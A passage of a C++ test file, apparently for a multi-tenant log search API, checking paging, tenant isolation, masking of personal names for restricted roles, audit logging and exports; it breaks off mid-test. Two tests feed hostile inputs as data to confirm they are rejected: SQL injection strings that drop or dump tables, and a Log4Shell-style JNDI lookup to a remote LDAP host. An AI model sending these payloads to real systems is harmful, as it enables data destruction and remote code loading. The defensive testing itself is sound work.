// The search routes over a world with three organisations: what they answer, what they refuse, and what an account that
// may not see personal fields can find out.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <set>

#include "api/api.h"
#include "api/list.h"
#include "api/test_world.h"
#include "base/cursor.h"
#include "base/text.h"
#include "base/time.h"
#include "store/audit.h"

namespace vg::api::test {
namespace {

class Search : public ::testing::TestWithParam<ArchiveKind> {
protected:
    Search() : world(GetParam()) {
        const auto add = [&](const char* organisation, std::initializer_list<json::Member> members) { ids.push_back(world.add_record(organisation, json::object(members).dump()).text()); };
        add("A", {{"message", "first thuydang logged on"}, {"user", json::object({{"name", "thuydang"}})}, {"host", json::object({{"name", "web-01"}})}, {"source", json::object({{"ip", "192.0.2.10"}})}});
        world.clock.move(seconds(10));
        add("A", {{"message", "second lan.tran logged on"}, {"user", json::object({{"name", "lan.tran"}})}, {"host", json::object({{"name", "web-01"}})}, {"source", json::object({{"ip", "192.0.2.20"}})}});
        world.clock.move(seconds(10));
        add("A", {{"message", "third: root did it"}, {"user", json::object({{"name", "root"}})}, {"host", json::object({{"name", "db-01"}})}});
        world.clock.move(seconds(10));
        add("B", {{"message", "secret of B"}, {"host", json::object({{"name", "web-01"}})}});
        from = to_rfc3339(world.started - hours(1));
        to = to_rfc3339(world.clock.now() + hours(1));
    }

    Reply get(const std::string& path, std::vector<net::Header> query, access::Role role = access::Role::analyst, const std::string& organisation = "A", std::vector<net::Header> headers = {}) {
        query.emplace_back("from", from);
        query.emplace_back("to", to);
        return world.send({.path = path, .query = std::move(query), .headers = std::move(headers)}, &world.account(organisation, role).credential);
    }
    Reply post(const std::string& path, json::Value body, access::Role role = access::Role::analyst, const std::string& organisation = "A") {
        return world.send({.method = "POST", .path = path, .body = body.dump()}, &world.account(organisation, role).credential);
    }
    std::int64_t count(const std::string& q, access::Role role = access::Role::analyst, const std::string& organisation = "A") {
        const Reply reply = get("/api/v1/events/count", {{"q", q}}, role, organisation);
        EXPECT_EQ(reply.status, 200) << q << reply.body;
        return reply.parsed().integer("count").value_or(-1);
    }
    std::vector<std::string> found(const std::string& q, access::Role role = access::Role::analyst) {
        std::vector<std::string> out;
        const json::Value answer = get("/api/v1/events", {{"q", q}}, role).parsed();
        for (const json::Value& item : answer.find("items")->as_array()) out.push_back(item.text("id").value_or(""));
        return out;
    }
    std::vector<store::AuditLine> audit_of(const std::string& action) {
        std::vector<store::AuditLine> out;
        auto lines = world.state->read([&](store::Transaction& tx) { return store::audit::list(tx, nullptr, std::nullopt, 1000); });
        for (const store::AuditLine& line : lines.value())
            if (line.action == action) out.push_back(line);
        return out;
    }

    World world;
    std::vector<std::string> ids;
    std::string from, to;
};

using access::Role;

// ---- answers ----

TEST_P(Search, FindsNewestFirstAndOldestFirst) {
    EXPECT_EQ(found("message:*"), (std::vector{ids[2], ids[1], ids[0]}));
    const Reply oldest = get("/api/v1/events", {{"q", "message:*"}, {"order", "oldest"}});
    EXPECT_EQ(oldest.parsed().find("items")->as_array().front().text("id"), ids[0]);
    EXPECT_EQ(count("host.name:web-01"), 2) << "B's host of the same name is not A's";
    EXPECT_EQ(count("host.name:web-01", Role::administrator, "node"), 3);
}

TEST_P(Search, PagesHoldTogether) {
    std::vector<std::string> seen;
    std::optional<std::string> after;
    do {
        std::vector<net::Header> query{{"q", "message:*"}, {"limit", "1"}};
        if (after) query.emplace_back("after", *after);
        const json::Value page = get("/api/v1/events", query).parsed();
        ASSERT_EQ(page.find("items")->as_array().size(), 1U);
        seen.push_back(page.find("items")->as_array()[0].text("id").value_or(""));
        after = page.text("next");
    } while (after && seen.size() < 10);
    EXPECT_EQ(seen, (std::vector{ids[2], ids[1], ids[0]}));
}

TEST_P(Search, CountsByTimeWithEmptyBuckets) {
    const Reply reply = get("/api/v1/events/histogram", {{"q", "message:*"}, {"step", "10"}});
    std::vector<std::int64_t> counts;
    const json::Value answer = reply.parsed();
    for (const json::Value& bucket : answer.find("buckets")->as_array()) counts.push_back(bucket.integer("count").value_or(-1));
    EXPECT_EQ(std::count(counts.begin(), counts.end(), 1), 3) << "three events, ten seconds apart";
    EXPECT_GT(std::count(counts.begin(), counts.end(), 0), 300);
    EXPECT_EQ(reply.parsed().integer("step"), 10);
    EXPECT_EQ(get("/api/v1/events/histogram", {{"step", "0"}}).status, 400);
    EXPECT_EQ(world.send({.path = "/api/v1/events/histogram", .query = {{"from", "1990-01-01T00:00:00Z"}, {"to", to}, {"step", "1"}}}, &world.account("A", Role::analyst).credential).status, 400) << "too many buckets";
}

TEST_P(Search, TellsTheMostFrequentValues) {
    const json::Value top = get("/api/v1/events/top", {{"q", "message:*"}, {"field", "host.name"}}).parsed();
    EXPECT_EQ(top.integer("events"), 3);
    EXPECT_EQ(top.integer("with_field"), 3);
    EXPECT_EQ(top.integer("distinct"), 2);
    EXPECT_EQ(top.find("values")->dump(), R"([{"value":"web-01","count":2},{"value":"db-01","count":1}])");
    const json::Value statistics = get("/api/v1/events/statistics", {{"field", "source.ip"}, {"q", "message:*"}}).parsed();
    EXPECT_EQ(statistics.integer("events"), 2);
    EXPECT_EQ(statistics.text("least"), "192.0.2.10");
    EXPECT_EQ(statistics.text("most"), "192.0.2.20");
}

TEST_P(Search, NamesTheFieldsThatOccur) {
    const json::Value fields = get("/api/v1/events/fields", {{"q", "message:*"}}).parsed();
    bool user = false;
    for (const json::Value& item : fields.find("items")->as_array()) {
        if (item.text("name") != "user.name") continue;
        user = true;
        EXPECT_EQ(item.boolean("personal"), true);
        EXPECT_EQ(item.boolean("ecs"), true);
        EXPECT_EQ(item.integer("count"), 3);
    }
    EXPECT_TRUE(user) << fields.dump();
}

TEST_P(Search, ShowsWhatHappenedAroundAnEventOnItsHost) {
    const json::Value around = get("/api/v1/events/" + ids[1] + "/context", {}).parsed();  // from and to are no parameters of it
    EXPECT_EQ(around.text("code"), "bad_input");
    const Reply reply = world.send({.path = "/api/v1/events/" + ids[1] + "/context"}, &world.account("A", Role::analyst).credential);
    ASSERT_EQ(reply.status, 200) << reply.body;
    ASSERT_EQ(reply.parsed().find("before")->as_array().size(), 1U) << reply.body;
    EXPECT_EQ(reply.parsed().find("before")->as_array()[0].text("id"), ids[0]);
    EXPECT_EQ(reply.parsed().find("event")->text("id"), ids[1]);
    EXPECT_TRUE(reply.parsed().find("after")->as_array().empty()) << "db-01 is another host, and B's web-01 another organisation's: " << reply.body;
}

TEST_P(Search, StreamsEverythingAsLines) {
    const Reply reply = get("/api/v1/events", {{"q", "message:*"}}, Role::analyst, "A", {{"accept", "application/x-ndjson"}});
    EXPECT_EQ(reply.header("Content-Type"), "application/x-ndjson");
    const auto lines = split(reply.body, '\n');
    ASSERT_EQ(lines.size(), 4U) << reply.body;
    EXPECT_EQ(json::parse(lines[0])->text("id"), ids[2]);
    EXPECT_EQ(json::parse(lines[2])->text("id"), ids[0]);
}

// A stream longer than a piece, with events of one instant: nothing twice, nothing left out.
TEST_P(Search, ALongStreamIsWhole) {
    world.add_numbered("A", 1300, 700);
    const Reply reply = get("/api/v1/events", {{"q", "number:*"}, {"order", "oldest"}}, Role::reader, "A", {{"accept", "application/x-ndjson"}});
    const auto lines = split(reply.body, '\n');
    ASSERT_EQ(lines.size(), 1301U);
    for (int i = 0; i < 1300; ++i) ASSERT_EQ(json::parse(lines[static_cast<std::size_t>(i)])->find("fields")->text("number"), format("n{}", i));
}

// Two readers who take nothing do not keep both turns; when they go on they get everything, each event once.
TEST_P(Search, SlowReadersKeepNobodyWaiting) {
    constexpr int kEvents = 3000;
    world.add_numbered("A", kEvents, 10);
    const Credential& credential = world.account("A", Role::analyst).credential;
    const Send send{.path = "/api/v1/events", .query = {{"q", "number:*"}, {"from", from}, {"to", to}}, .headers = {{"accept", "application/x-ndjson"}}};
    std::vector<net::Response> slow;
    slow.push_back(world.answer(send, &credential));
    slow.push_back(world.answer(send, &credential));
    EXPECT_EQ(count("number:*", Role::duty_lead), kEvents) << "a third gets a turn";
    for (net::Response& response : slow) {
        ASSERT_TRUE(response.stream);
        std::string body;
        for (bool more = true; more;) more = response.stream(body);
        EXPECT_EQ(body.find("problem"), std::string::npos);
        std::set<std::string> seen;
        for (std::string_view line : split(body, '\n'))
            if (!line.empty()) seen.insert(json::parse(line)->text("id").value_or(""));
        EXPECT_EQ(seen.size(), static_cast<std::size_t>(kEvents));
        EXPECT_EQ(std::count(body.begin(), body.end(), '\n'), kEvents);
    }
}

// ---- what an answer lacks ----

TEST_P(Search, EveryAnswerSaysWhatItLacks) {
    if (GetParam() != ArchiveKind::fake) return;  // store/archive/archive_rebuild_test.cpp has the real one's
    const std::vector<std::pair<std::string, std::vector<net::Header>>> asked{{"/api/v1/events", {}}, {"/api/v1/events/count", {}}, {"/api/v1/events/histogram", {}}, {"/api/v1/events/top", {{"field", "host.name"}}},
                                                                            {"/api/v1/events/statistics", {{"field", "host.name"}}}, {"/api/v1/events/fields", {}}};
    for (const auto& [path, query] : asked)
        for (const Role role : {Role::analyst, Role::reader}) {
            const Reply whole = get(path, query, role);
            EXPECT_EQ(whole.status, 200) << whole.body;
            EXPECT_EQ(whole.body.find("incomplete"), std::string::npos) << path << " is whole";
        }
    store::Unseen& unseen = static_cast<FakeArchive&>(*world.archive).unseen;
    unseen.gaps = {{.from = *parse_time("2026-05-01T10:00:00Z"), .to = *parse_time("2026-05-01T10:07:00Z"), .events = 7}, {.from = {}, .to = {}, .events = {}, .lost = true}};
    const std::string lacking = R"([{"from":"2026-05-01T10:00:00Z","to":"2026-05-01T10:07:00Z","events":7,"reason":"missing"},{"from":null,"to":null,"events":null,"reason":"lost"}])";
    for (const auto& [path, query] : asked)
        for (const Role role : {Role::analyst, Role::reader})  // one asks the archive itself, the other over masked events
            for (const char* q : {"", "message:*", "logged"}) {
                std::vector<net::Header> with = query;
                with.emplace_back("q", q);
                const Reply reply = get(path, with, role);
                ASSERT_EQ(reply.status, 200) << path << reply.body;
                const json::Value answer = reply.parsed();
                ASSERT_NE(answer.find("incomplete"), nullptr) << path << " " << q;
                EXPECT_EQ(answer.find("incomplete")->dump(), lacking) << path;
            }
    const Reply around = world.send({.path = "/api/v1/events/" + ids[1] + "/context"}, &world.account("A", Role::analyst).credential);
    const json::Value context = around.parsed();
    ASSERT_NE(context.find("incomplete"), nullptr) << around.body;
    EXPECT_EQ(context.find("incomplete")->dump(), lacking);

    const Reply stream = get("/api/v1/events", {{"q", "message:*"}}, Role::analyst, "A", {{"accept", "application/x-ndjson"}});
    EXPECT_TRUE(stream.body.ends_with("\n{\"incomplete\":" + lacking + "}\n")) << stream.body;
    EXPECT_EQ(split(stream.body, '\n').size(), 5U) << "three events, what is lacking, the end";
    const auto exported = [&](const char* format) { return post("/api/v1/events/export", json::object({{"q", "message:*"}, {"from", from}, {"to", to}, {"format", format}})); };
    EXPECT_TRUE(exported("ndjson").body.ends_with("{\"incomplete\":" + lacking + "}\n"));
    EXPECT_NE(exported("csv").body.find("\r\n#incomplete,\"[{\"\"from\"\":\"\"2026-05-01T10:00:00Z\"\""), std::string::npos) << exported("csv").body;
    EXPECT_EQ(exported("parquet").header("Vonggac-Incomplete"), lacking);

    unseen.gaps.assign(500, {.from = *parse_time("2026-05-01T10:00:00Z"), .to = *parse_time("2026-05-01T10:07:00Z"), .events = 1});
    for (std::size_t i = 0; i < unseen.gaps.size(); ++i) *unseen.gaps[i].to = *unseen.gaps[i].to + seconds(static_cast<std::int64_t>(i));
    const json::Value many = get("/api/v1/events/count", {}).parsed();
    ASSERT_EQ(many.find("incomplete")->as_array().size(), 100U) << "bounded";
    EXPECT_EQ(many.find("incomplete")->as_array().back().integer("events"), 401) << "and nothing is left out";
    EXPECT_EQ(many.find("incomplete")->as_array().back().text("to"), "2026-05-01T10:15:19Z");
}

// Two seconds are promised. What is behind by more is told, and records that are no events do not count.
TEST_P(Search, AnAnswerSaysThatTheArchiveIsBehind) {
    event::Record record;
    record.envelope.organisation = world.organisation("A");
    record.raw = "{}";
    const auto keep = [&](event::Kind kind) {
        record.envelope.kind = kind;
        record.envelope.received = world.clock.now();
        return world.journal->keep(std::span{&record, 1}).value();
    };
    const event::Position end = keep(event::Kind::control);
    if (GetParam() == ArchiveKind::fake) static_cast<FakeArchive&>(*world.archive).unseen.end = end;
    world.clock.move(minutes(1));
    EXPECT_EQ(get("/api/v1/events/count", {}).parsed().find("incomplete"), nullptr) << "a control record is no event";
    keep(event::Kind::data);
    const Time received = world.clock.now();
    world.clock.move(milliseconds(1900));
    EXPECT_EQ(get("/api/v1/events/count", {}).parsed().find("incomplete"), nullptr) << "the promise holds";
    world.clock.move(milliseconds(200));
    const json::Value answer = get("/api/v1/events/count", {}).parsed();
    ASSERT_NE(answer.find("incomplete"), nullptr);
    EXPECT_EQ(answer.find("incomplete")->dump(), json::array({json::object({{"from", to_rfc3339(received)}, {"to", to_rfc3339(world.clock.now())}, {"events", json::Value{}}, {"reason", "behind"}})}).dump());
}

// ---- what is wrong with a request ----

TEST_P(Search, AnErrorOfTheQueryPointsAtThePlace) {
    const Reply reply = get("/api/v1/events", {{"q", "host.name:(web-01"}});
    EXPECT_EQ(reply.status, 400);
    EXPECT_EQ(reply.header("Content-Type"), "application/problem+json");
    const json::Value problem = reply.parsed();
    EXPECT_EQ(problem.text("field"), "q");
    EXPECT_TRUE(problem.integer("offset").has_value()) << reply.body;
    EXPECT_TRUE(problem.integer("length").has_value());
    for (const char* path : {"count", "histogram", "fields"}) EXPECT_EQ(get(format("/api/v1/events/{}", path), {{"q", "((("}}).status, 400) << path;
    EXPECT_EQ(post("/api/v1/events/export", json::object({{"q", "((("}, {"from", from}, {"to", to}, {"format", "csv"}})).status, 400);
    EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "x"}, {"q", "((("}})).status, 400);
}

TEST_P(Search, TimesMustBeGivenAndInOrder) {
    const Credential& credential = world.account("A", Role::analyst).credential;
    EXPECT_EQ(world.send({.path = "/api/v1/events"}, &credential).parsed().text("field"), "from");
    EXPECT_EQ(world.send({.path = "/api/v1/events", .query = {{"from", from}}}, &credential).parsed().text("field"), "to");
    EXPECT_EQ(world.send({.path = "/api/v1/events", .query = {{"from", to}, {"to", from}}}, &credential).parsed().text("field"), "from");
}

TEST_P(Search, HostileCursorsAreRefused) {
    const json::Value page = get("/api/v1/events", {{"q", "message:*"}, {"limit", "1"}}).parsed();
    const std::string good = page.text("next").value_or("");
    ASSERT_FALSE(good.empty());
    std::string flipped = good;
    flipped[flipped.size() / 2] = flipped[flipped.size() / 2] == 'A' ? 'B' : 'A';
    std::vector<std::string> hostile{"", "x", "' or 1=1 --", good + "A", good.substr(1), flipped + "=", std::string(5000, 'A'),
                                     to_cursor("finding", {"1", "2"}),
                                     to_cursor("events-newest", {"1"}),
                                     to_cursor("events-newest", {"1", "2", "3"}),
                                     to_cursor("events-newest", {"", ""}),
                                     to_cursor("events-newest", {"1e9", "1"}),
                                     to_cursor("events-newest", {"1", "-1"}),
                                     to_cursor("events-newest", {"01", "1"}),
                                     to_cursor("events-newest", {"99999999999999999999", "1"}),
                                     to_cursor("events-newest", {"1); drop table tail; --", "1"}),
                                     to_cursor("events-oldest", {"1780000000000000", "1"})};
    for (const std::string& cursor : hostile) {
        const Reply reply = get("/api/v1/events", {{"q", "message:*"}, {"after", cursor}});
        EXPECT_EQ(reply.status, 400) << cursor << reply.body;
        EXPECT_EQ(reply.parsed().text("field"), "after") << cursor;
    }
    // A cursor names a place and nothing else: one that somebody else got shows nothing of his.
    const std::string theirs = to_cursor("events-newest", {format("{}", (world.clock.now() + days(1)).micros), "999999"});
    EXPECT_EQ(get("/api/v1/events", {{"q", "secret"}, {"after", theirs}}).parsed().find("items")->as_array().size(), 0U);
}

TEST_P(Search, InjectionFindsNothingAndBreaksNothing) {
    const std::int64_t all = count("message:*");
    for (const char* text : {R"("'; drop table tail; --")", R"("x' or '1'='1")", R"("%")", R"("_")", R"("\\")", R"("${jndi:ldap://192.0.2.1/a}")", "message:\"' union select * from tail\"", R"(format:"json' or 1=1 --")",
                             R"(organisation:"x' or true --")"}) {
        const Reply reply = get("/api/v1/events", {{"q", text}});
        EXPECT_TRUE(reply.status == 200 || reply.status == 400) << text << reply.body;
        EXPECT_TRUE(reply.status == 400 || reply.parsed().find("items")->as_array().empty()) << text << reply.body;
    }
    for (const char* field : {"host.name\" from tail; --", "'; select 1", "a\"b", "host.name) or (1=1", "\xC3\xA9"}) {
        const Reply reply = get("/api/v1/events/top", {{"field", field}});
        EXPECT_TRUE(reply.status == 200 || reply.status == 400) << field << reply.body;
        EXPECT_TRUE(reply.status == 400 || reply.parsed().integer("with_field") == 0) << field << reply.body;
        EXPECT_NE(get("/api/v1/events/statistics", {{"field", field}}).status, 500) << field;
    }
    EXPECT_EQ(count("message:*"), all);
}

// A query cannot widen whose events are searched.
TEST_P(Search, TheQueryDoesNotDecideWhoseEventsAreSeen) {
    const std::string b = world.organisation("B").text();
    for (const std::string& q : {std::string{"secret"}, "organisation:" + b, "organisation:" + b + " OR message:*", std::string{"NOT organisation:x"}, std::string{"secret OR NOT secret"}}) {
        const Reply reply = get("/api/v1/events", {{"q", q}});
        EXPECT_EQ(reply.body.find("secret of B"), std::string::npos) << q;
    }
    EXPECT_EQ(get("/api/v1/events/count", {{"q", ""}, {"organisation", b}}).parsed().integer("count"), 0);
    // One or several organisations: the sum of each, for who sees them.
    const std::string a = world.organisation("A").text();
    const auto of = [&](const std::string& organisation, const char* asker) { return get("/api/v1/events/count", {{"q", ""}, {"organisation", organisation}}, Role::administrator, asker).parsed().integer("count").value_or(-1); };
    EXPECT_EQ(of(a, "A"), get("/api/v1/events/count", {{"q", ""}}, Role::administrator, "A").parsed().integer("count"));
    EXPECT_EQ(of(a + "," + b, "A"), of(a, "A")) << "what is not seen adds nothing";
    EXPECT_GT(of(b, "root"), 0);
    EXPECT_EQ(of(a + "," + b, "root"), of(a, "root") + of(b, "root"));
    EXPECT_EQ(get("/api/v1/events/count", {{"q", ""}, {"organisation", a + ","}}).status, 400);
    EXPECT_EQ(post("/api/v1/events/export", json::object({{"from", from}, {"to", to}, {"format", "ndjson"}, {"organisation", "x"}})).status, 400);
    EXPECT_EQ(world.send({.path = "/api/v1/events/" + ids[3] + "/context"}, &world.account("A", Role::analyst).credential).status, 404);
}

// ---- persons ----

TEST_P(Search, WhoMayRevealSeesPersonsAndTheAuditChainSaysSo) {
    const Reply reply = get("/api/v1/events", {{"q", "thuydang"}});
    EXPECT_NE(reply.body.find("thuydang"), std::string::npos);
    EXPECT_EQ(reply.parsed().find("items")->as_array()[0].boolean("masked"), false);
    auto lines = audit_of("personal:reveal");
    ASSERT_EQ(lines.size(), 1U);
    EXPECT_EQ(lines[0].details.text("q"), "thuydang");
    EXPECT_EQ(lines[0].details.integer("shown"), 1);
    EXPECT_EQ(lines[0].organisation, world.organisation("A"));
    // Without a person in the answer there is nothing to say, and neither is there when they asked for masked fields.
    EXPECT_EQ(found("root").size(), 1U);
    EXPECT_EQ(get("/api/v1/events", {{"q", "logged"}, {"masked", "true"}}).body.find("thuydang"), std::string::npos);
    EXPECT_EQ(audit_of("personal:reveal").size(), 1U);
    get("/api/v1/events/top", {{"q", "message:*"}, {"field", "user.name"}});
    EXPECT_EQ(audit_of("personal:reveal").size(), 2U);
}

TEST_P(Search, TheAuditLineOfAnotherOrganisationDoesNotHoldTheQuery) {
    EXPECT_EQ(get("/api/v1/events", {{"q", "logged OR qxbravo"}}, Role::administrator, "root").status, 200);
    for (const store::AuditLine& line : audit_of("personal:reveal"))
        EXPECT_EQ(line.details.text("q").has_value(), line.organisation == world.organisation("root")) << line.details.dump();
    EXPECT_EQ(audit_of("personal:reveal").size(), 2U) << "one for who asked, one for whose persons were shown";
}

TEST_P(Search, WithoutThatPersonsAreMaskedEverywhere) {
    const auto clean = [](const Reply& reply, std::string_view what) {
        EXPECT_EQ(reply.status, 200) << what << reply.body;
        EXPECT_EQ(reply.body.find("thuydang"), std::string::npos) << what << reply.body;
        EXPECT_EQ(reply.body.find("lan.tran"), std::string::npos) << what << reply.body;
    };
    const Reply page = get("/api/v1/events", {{"q", "logged"}}, Role::reader);
    clean(page, "page");
    EXPECT_EQ(page.parsed().find("items")->as_array().size(), 2U);
    EXPECT_NE(page.body.find("second [masked] logged on"), std::string::npos) << page.body;
    EXPECT_EQ(page.parsed().find("items")->as_array()[0].boolean("masked"), true);
    clean(get("/api/v1/events", {{"q", "message:*"}}, Role::reader, "A", {{"accept", "application/x-ndjson"}}), "stream");
    for (const char* field : {"user.name", "message"}) {
        clean(get("/api/v1/events/top", {{"q", "message:*"}, {"field", field}}, Role::reader), field);
        clean(get("/api/v1/events/statistics", {{"q", "message:*"}, {"field", field}}, Role::reader), field);
        clean(get("/api/v1/search/completion", {{"q", format("{}:", field)}}, Role::reader), field);
    }
    clean(get("/api/v1/search/completion", {{"q", "user.name:t"}}, Role::reader), "a beginning");
    clean(world.send({.path = "/api/v1/events/" + ids[1] + "/context"}, &world.account("A", Role::reader).credential), "context");
    for (const char* kind : {"ndjson", "csv"}) clean(post("/api/v1/events/export", json::object({{"from", from}, {"to", to}, {"format", kind}}), Role::operator_), kind);
    EXPECT_EQ(post("/api/v1/events/export", json::object({{"from", from}, {"to", to}, {"format", "parquet"}}), Role::operator_).status, 403) << "a Parquet file cannot be masked";
    EXPECT_TRUE(audit_of("personal:reveal").empty());
}

TEST_P(Search, TopValuesOfAMaskedFieldSayHowManyAndNotWho) {
    const json::Value top = get("/api/v1/events/top", {{"q", "message:*"}, {"field", "user.name"}}, Role::reader).parsed();
    EXPECT_EQ(top.find("values")->dump(), R"([{"value":"[masked]","count":2},{"value":"root","count":1}])");
    EXPECT_EQ(top.integer("distinct"), 2) << "of the values as they are shown";
}

// What is masked cannot be searched: every way of asking for a person gives the same whether it is that person or not.
TEST_P(Search, WithoutThatNobodyCanBeFoundByName) {
    for (const char* q : {"user.name:thuydang", "user.name:thuy*", "user.name:t?uydang", "user.name:[a TO z]", "user.name:>=t", "user.name:(thuydang OR x)", "NOT user.name:thuydang", "user.email:a@example.org", "SubjectUserName:x"}) {
        const Reply reply = get("/api/v1/events/count", {{"q", q}}, Role::reader);
        EXPECT_EQ(reply.status, 403) << q << reply.body;
        EXPECT_EQ(reply.parsed().text("field"), "q");
        EXPECT_TRUE(reply.parsed().integer("offset").has_value());
    }
    EXPECT_EQ(count("user.name:*", Role::reader), 3) << "that there is one is no secret";
    EXPECT_EQ(count("user.name:root", Role::reader), 1) << "root is no person, and is shown";
    EXPECT_EQ(count("logged AND NOT user.name:SYSTEM", Role::reader), 2) << "nor is SYSTEM";
}

TEST_P(Search, WithoutThatTextDoesNotTellTheNameInIt) {
    for (const char* pair : {"thuydang|nobodys", "thuy*|thux*", "message:*uydang*|message:*uydanz*", "\"first thuydang\"|\"first nobodys\"", "message:\"first thuydang logged on\"|message:\"first x logged on\"", "m*sked|m*skee",
                             "lan.tran|lan.trax", "message:first?thuydang*|message:first?nobodys*", "message:>=\"second m\"|message:>=\"second k\""}) {
        const auto both = split(pair, '|');
        const std::string real{both[0]}, other{both[1]};
        EXPECT_EQ(count(real, Role::reader), count(other, Role::reader)) << real;
        EXPECT_EQ(count("NOT " + real, Role::reader), count("NOT " + other, Role::reader)) << "NOT " << real;
        EXPECT_EQ(count("host.name:web-01 AND NOT (" + real + " OR db-01)", Role::reader), count("host.name:web-01 AND NOT (" + other + " OR db-01)", Role::reader)) << real;
        EXPECT_EQ(get("/api/v1/events/histogram", {{"q", real}, {"step", "3600"}}, Role::reader).body, get("/api/v1/events/histogram", {{"q", other}, {"step", "3600"}}, Role::reader).body) << real;
        EXPECT_EQ(found(real, Role::reader), found(other, Role::reader)) << real;
    }
    EXPECT_GT(count("thuydang"), 0) << "it is there for who may see it, so the above proves something";
    EXPECT_EQ(count("first", Role::reader), 1) << "what is shown can be found";
    EXPECT_EQ(count("message:\"logged on\"", Role::reader), 0) << "the whole message is another";
}

TEST_P(Search, WhatWasNotUnderstoodIsHiddenAsAWholeFromSearchToo) {
    world.add_found("A", {500'000}, world.started, {{"message", "user=thuydang pass"}}, "no format fits");
    EXPECT_EQ(count("pass"), 1);
    EXPECT_EQ(count("pass", Role::reader), 0);
    EXPECT_EQ(get("/api/v1/events", {{"q", "unparsed:*"}}, Role::reader).body.find("thuydang"), std::string::npos);
}

// ---- words ----

TEST_P(Search, CompletesNamesAndValues) {
    const auto offers = [&](const std::string& q, Role role = Role::analyst) {
        const Reply reply = get("/api/v1/search/completion", {{"q", q}}, role);
        EXPECT_EQ(reply.status, 200) << reply.body;
        std::vector<std::string> out;
        const json::Value answer = reply.parsed();
        for (const json::Value& item : answer.find("items")->as_array()) out.push_back(item.text("text").value_or(""));
        return out;
    };
    const auto names = offers("host.n");
    EXPECT_NE(std::find(names.begin(), names.end(), "host.name:"), names.end());
    const auto values = offers("host.name:we");
    ASSERT_FALSE(values.empty());
    EXPECT_EQ(values.front(), "\"web-01\"");
    EXPECT_EQ(offers("user.name:thuy").front(), "thuydang");
    EXPECT_TRUE(offers("user.name:thuy", Role::reader).empty());
    const json::Value place = get("/api/v1/search/completion", {{"q", "a AND host.name:we"}}).parsed();
    EXPECT_EQ(place.integer("start"), 16);
    EXPECT_EQ(place.integer("end"), 18);
}

TEST_P(Search, SaysHowAQueryIsReadOrWhatIsWrong) {
    const Credential& credential = world.account("A", Role::reader).credential;
    const json::Value good = world.send({.path = "/api/v1/search/check", .query = {{"q", "host.name:web-01 AND NOT logged"}}}, &credential).parsed();
    EXPECT_EQ(good.boolean("valid"), true);
    ASSERT_EQ(good.find("bubbles")->as_array().size(), 2U);
    EXPECT_EQ(good.find("bubbles")->as_array()[0].text("text"), "host.name:web-01");
    EXPECT_EQ(good.find("bubbles")->as_array()[1].boolean("negated"), true);
    const Reply bad = world.send({.path = "/api/v1/search/check", .query = {{"q", "a AND"}}}, &credential);
    EXPECT_EQ(bad.status, 200);
    EXPECT_EQ(bad.parsed().boolean("valid"), false);
    EXPECT_TRUE(bad.parsed().integer("offset").has_value());
}

// ---- searches under way ----

TEST_P(Search, SearchesOfAnAccountAreSeenAndCancelledByItAlone) {
    const Account& mine = world.account("A", Role::analyst);
    const Account& colleague = world.account("A", Role::administrator);
    const std::string id = world.open_search(mine);
    EXPECT_NE(world.send({.path = "/api/v1/searches"}, &mine.credential).body.find(id), std::string::npos);
    EXPECT_EQ(world.send({.path = "/api/v1/searches"}, &colleague.credential).body.find(id), std::string::npos);
    EXPECT_EQ(world.send({.method = "DELETE", .path = "/api/v1/searches/" + id}, &colleague.credential).status, 404);
    EXPECT_FALSE(world.searches.back()->is_cancelled());
    EXPECT_EQ(world.send({.method = "DELETE", .path = "/api/v1/searches/" + id}, &mine.credential).status, 204);
    EXPECT_TRUE(world.searches.back()->is_cancelled());
    EXPECT_EQ(get("/api/v1/events/count", {{"search", id}}).status, 409) << "the id is taken as long as it is under way";
}

// ---- the archive as a whole ----

TEST_P(Search, TheArchiveIsBuiltAnewByWhoRunsTheNode) {
    const Account& operating = world.account("node", Role::operator_);
    const auto rebuild = [&](const json::Value& body, const Account& who) { return world.send({.method = "POST", .path = "/api/v1/archive/rebuild", .body = body.dump()}, &who.credential); };
    EXPECT_EQ(rebuild(json::object({}), world.account("node", Role::analyst)).status, 403);
    EXPECT_EQ(rebuild(json::object({}), world.account("A", Role::administrator)).status, 403) << "the node is not A's";
    EXPECT_EQ(rebuild(json::object({{"from", -1}}), operating).status, 400);
    EXPECT_EQ(rebuild(json::object({{"from", 1}, {"segment", "000000000001"}}), operating).status, 400);
    EXPECT_EQ(rebuild(json::object({{"segment", "000000000099"}}), operating).status, 404);
    EXPECT_TRUE(audit_of("archive:rebuild").empty()) << "nothing was done";
    const Reply marked = rebuild(json::object({{"from", 3}}), operating);
    EXPECT_EQ(marked.status, 202) << marked.body;
    const json::Value shown = world.send({.path = "/api/v1/archive"}, &operating.credential).parsed();
    ASSERT_NE(shown.find("rebuild"), nullptr) << shown.dump();
    EXPECT_EQ(shown.find("rebuild")->integer("segments"), marked.parsed().integer("segments"));
    EXPECT_EQ(shown.integer("journal_end"), static_cast<std::int64_t>(world.journal->end().value));
    EXPECT_EQ(world.send({.method = "DELETE", .path = "/api/v1/archive/rebuild"}, &operating.credential).status, 204);
    EXPECT_EQ(world.send({.path = "/api/v1/archive"}, &operating.credential).parsed().find("rebuild")->integer("segments"), 0);
    const auto lines = audit_of("archive:rebuild");
    ASSERT_EQ(lines.size(), 1U);
    EXPECT_EQ(lines[0].details.integer("from"), 3);
    EXPECT_EQ(audit_of("archive:rebuild-stop").size(), 1U);
}

// ---- exports ----

TEST_P(Search, AnExportIsALineInTheAuditChain) {
    const Reply reply = post("/api/v1/events/export", json::object({{"q", "message:*"}, {"from", from}, {"to", to}, {"format", "ndjson"}}));
    EXPECT_EQ(reply.status, 200);
    EXPECT_EQ(reply.header("Content-Disposition"), "attachment; filename=\"events.ndjson\"");
    EXPECT_EQ(split(reply.body, '\n').size(), 4U);
    const auto lines = audit_of("event:export");
    ASSERT_EQ(lines.size(), 1U);
    EXPECT_EQ(lines[0].details.text("q"), "message:*");
    EXPECT_EQ(lines[0].details.text("format"), "ndjson");
    EXPECT_EQ(post("/api/v1/events/export", json::object({{"from", from}, {"to", to}, {"format", "ndjson"}}), Role::reader).status, 403);
}

TEST_P(Search, AParquetExportIsWhatTheArchiveWroteAndLeavesNothingBehind) {
    const Reply reply = post("/api/v1/events/export", json::object({{"q", "host.name:db-01"}, {"from", from}, {"to", to}, {"format", "parquet"}}));
    EXPECT_EQ(reply.status, 200) << reply.body;
    EXPECT_TRUE(reply.body.starts_with("PAR1"));
    if (GetParam() == ArchiveKind::fake) {
